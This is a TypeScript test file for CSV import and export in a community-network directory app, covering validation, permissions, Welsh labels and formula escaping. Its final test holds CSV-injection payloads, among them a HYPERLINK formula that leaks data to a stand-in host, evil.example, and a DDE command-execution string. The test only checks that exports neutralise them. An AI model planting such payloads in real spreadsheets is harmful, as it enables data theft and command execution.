import { parse } from 'csv-parse/sync';
import { NetworkEntity } from '../../directory/network.entity.js';
import { NetworkMembershipEntity } from '../../ties/network-membership.entity.js';
import { createTestApp, type TestApp, type TestPerson } from '../../../../test/test-app.js';

const GOOD = `name,website,area,themes,sectors,kind
Riverside Allotments,https://riverside.example.org,Pontypridd,food; growing,community group,network
Valley Credit Union,,Pontypridd,money,social enterprise;business,organisation
Café Cymraeg,,Treforest,language,,
`;

const BAD = `name,website,area,themes,sectors,kind
Good Row,,,,,
X,not-a-url,,,,
Another Good Row,,,,voluntary sector,
Third,,,,,planet
Good Row,,,,,
`;

describe('CSV import and export', () => {
  let t: TestApp;
  let faith: TestPerson;
  let coalition: { id: string; slug: string };

  const post = (path: string, body: string, cookie: string, type = 'text/csv') =>
    fetch(`${t.baseUrl}${path}`, { method: 'POST', headers: { 'content-type': type, cookie }, body });

  beforeAll(async () => {
    t = await createTestApp();
    faith = await t.newPerson();
    coalition = await t.newNetwork(faith, { name: 'Valleys Coalition', kind: 'COALITION' });
  });
  afterAll(() => t.close());

  it('previews a file, listing each bad row with its number and reason', async () => {
    const response = await post(`/api/networks/${coalition.id}/import/preview`, BAD, faith.client.cookieHeader);
    expect(response.status).toBe(200);
    const preview = (await response.json()) as { rows: number; valid: number; errors: { row: number; reason: string }[] };
    expect(preview.rows).toBe(5);
    expect(preview.valid).toBe(2);
    expect(preview.errors).toEqual([
      { row: 3, reason: expect.stringMatching(/name is missing or shorter than 2 characters; "not-a-url" is not a web address/) },
      { row: 5, reason: 'kind "planet" is not one of coalition, network, organisation' },
      { row: 6, reason: 'the same name as row 2' },
    ]);
  });

  it('imports nothing when any row is bad', async () => {
    const before = await t.dataSource.getRepository(NetworkEntity).count();
    const response = await post(`/api/networks/${coalition.id}/import`, BAD, faith.client.cookieHeader);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { errors: { message: string; extensions: { code: string; rowErrors: unknown[] } }[] };
    expect(body.errors[0].message).toBe('Nothing was imported: 3 rows need fixing first.');
    expect(body.errors[0].extensions.rowErrors).toHaveLength(3);
    expect(await t.dataSource.getRepository(NetworkEntity).count()).toBe(before);
  });

  it('imports every row as an unclaimed member listing of the coalition', async () => {
    const response = await post(`/api/networks/${coalition.id}/import`, GOOD, faith.client.cookieHeader);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ imported: 3 });
    const cafe = await t.dataSource.getRepository(NetworkEntity).findOneByOrFail({ name: 'Café Cymraeg' });
    expect(cafe).toMatchObject({ slug: 'cafe-cymraeg', kind: 'network', isClaimed: false, placeName: 'Treforest', themes: ['language'] });
    const union = await t.dataSource.getRepository(NetworkEntity).findOneByOrFail({ name: 'Valley Credit Union' });
    expect(union.sectors).toEqual(['social_enterprise', 'business']);
    expect(await t.dataSource.getRepository(NetworkMembershipEntity).countBy({ parentId: coalition.id, status: 'active' as never })).toBe(
      3,
    );
    // Importing the same names again gives fresh slugs rather than failing.
    await post(`/api/networks/${coalition.id}/import`, GOOD, faith.client.cookieHeader);
    expect((await t.dataSource.getRepository(NetworkEntity).findBy({ name: 'Café Cymraeg' })).map((n) => n.slug).sort()).toEqual([
      'cafe-cymraeg',
      expect.stringMatching(/^cafe-cymraeg-[a-z0-9]{8}$/),
    ]);
  });

  it('reports progress line by line when asked for NDJSON', async () => {
    const csv = 'name\n' + Array.from({ length: 1200 }, (_, i) => `Progress Group ${i}`).join('\n') + '\n';
    const response = await fetch(`${t.baseUrl}/api/networks/${coalition.id}/import`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv', accept: 'application/x-ndjson', cookie: faith.client.cookieHeader },
      body: csv,
    });
    expect(response.headers.get('content-type')).toBe('application/x-ndjson');
    const lines = (await response.text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    expect(lines).toEqual([{ done: 500, total: 1200 }, { done: 1000, total: 1200 }, { done: 1200, total: 1200 }, { imported: 1200 }]);
  });

  it('only the facilitators import: UNAUTHENTICATED, FORBIDDEN, and the file must be CSV', async () => {
    expect((await post(`/api/networks/${coalition.id}/import/preview`, GOOD, '')).status).toBe(401);
    const other = await t.newPerson();
    expect((await post(`/api/networks/${coalition.id}/import/preview`, GOOD, other.client.cookieHeader)).status).toBe(403);
    const plain = await post(`/api/networks/${coalition.id}/import/preview`, GOOD, faith.client.cookieHeader, 'text/plain');
    expect(plain.status).toBe(400);
  });

  it('refuses a file over 5 MB and one without a name column', async () => {
    const big = 'name\n' + 'x'.repeat(5 * 1024 * 1024);
    expect((await post(`/api/networks/${coalition.id}/import/preview`, big, faith.client.cookieHeader)).status).toBe(413);
    const noName = await post(`/api/networks/${coalition.id}/import/preview`, 'title,website\nA,\n', faith.client.cookieHeader);
    expect(noName.status).toBe(400);
    expect(
      ((await noName.json()) as { errors: { extensions: { fields: { file: string } } }[] }).errors[0].extensions.fields.file,
    ).toContain('"name" column');
  });

  it('exports the filtered directory as CSV with a BOM, without members-only networks for outsiders', async () => {
    await t.newNetwork(faith, { name: 'Orchard Network', kind: 'NETWORK', themes: ['orchards', 'food'], area: { placeName: 'Usk' } });
    await t.newNetwork(faith, { name: 'Orchard Coalition', kind: 'COALITION', themes: ['orchards'] });
    await t.newNetwork(faith, { name: 'Secret Orchard', visibility: 'MEMBERS_ONLY', themes: ['orchards'] });
    const response = await fetch(`${t.baseUrl}/api/networks/export.csv?themes=orchards&kinds=NETWORK`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/attachment; filename="weave-networks-\d{4}-\d{2}-\d{2}\.csv"/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(Buffer.from(bytes).toString('utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toEqual(['Orchard Network']);
    expect(rows[0]).toMatchObject({
      kind: 'Network',
      themes: 'orchards; food',
      area: 'Usk',
      profile: expect.stringMatching(/\/networks\/orchard-network$/),
    });

    const mine = await fetch(`${t.baseUrl}/api/networks/export.csv?themes=orchards`, { headers: { cookie: faith.client.cookieHeader } });
    expect(await mine.text()).toContain('Secret Orchard');
    expect((await fetch(`${t.baseUrl}/api/networks/export.csv?kinds=PLANET`)).status).toBe(400);
  });

  it('writes sectors, kind, region, reach and stage as labels in the language asked for (lang=en or cy), never codes', async () => {
    await t.newNetwork(faith, {
      name: 'Label Network',
      kind: 'COALITION',
      themes: ['labels'],
      sectors: ['COMMUNITY_GROUP', 'VOLUNTARY_SECTOR'],
      area: { placeName: 'Aberdare', region: 'WALES' },
      scope: 'REGIONAL',
      lifecycleStage: 'ACTIVE',
    });
    await t.newNetwork(faith, { name: 'Label Elsewhere', themes: ['labels'], area: { region: 'LONDON' } });
    const csv = async (query: string) => {
      const response = await fetch(`${t.baseUrl}/api/networks/export.csv?themes=labels&regions=WALES,SCOTLAND${query}`);
      expect(response.status).toBe(200);
      return parse(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
    };
    expect(await csv('')).toEqual([
      expect.objectContaining({
        name: 'Label Network',
        kind: 'Coalition',
        sectors: 'Community group; Voluntary sector',
        area: 'Aberdare',
        region: 'Wales',
        scope: 'Regional',
        'lifecycle stage': 'Active',
      }),
    ]);
    expect(await csv('&lang=cy')).toEqual([
      expect.objectContaining({
        enw: 'Label Network',
        math: 'Cynghrair',
        sectorau: 'Grŵp cymunedol; Sector gwirfoddol',
        ardal: 'Aberdare',
        rhanbarth: 'Cymru',
        cyrhaeddiad: 'Rhanbarthol',
        cam: 'Gweithredol',
      }),
    ]);
    const bad = await fetch(`${t.baseUrl}/api/networks/export.csv?lang=fr`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { errors: { extensions: { fields: Record<string, string> } }[] }).errors[0].extensions.fields).toEqual({
      lang: 'Use en or cy.',
    });
    const region = await fetch(`${t.baseUrl}/api/networks/export.csv?regions=Heronshire`);
    expect(region.status).toBe(400);
  });

  it('writes hostile names and words as text, never as formulas a spreadsheet would run', async () => {
    await t.newNetwork(faith, {
      name: '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
      purpose: "+cmd|' /C calc'!A0",
      values: '@SUM(1+1)*cmd|',
      themes: ['hostile'],
    });
    await t.newNetwork(faith, { name: '-2+3+cmd|x', purpose: '\t=1+2', values: '\r=1+2', themes: ['hostile'] });
    const response = await fetch(`${t.baseUrl}/api/networks/export.csv?themes=hostile`);
    const rows = parse(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
    const cells = rows.map((r) => [r.name, r['purpose (the work)'], r['values (the soul)']]);
    expect(cells.sort((a, b) => a[0].localeCompare(b[0]))).toEqual([
      ["'-2+3+cmd|x", "'\t=1+2", "'\r=1+2"],
      [`'=HYPERLINK("https://evil.example/?leak="&A2,"Click me")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|"],
    ]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
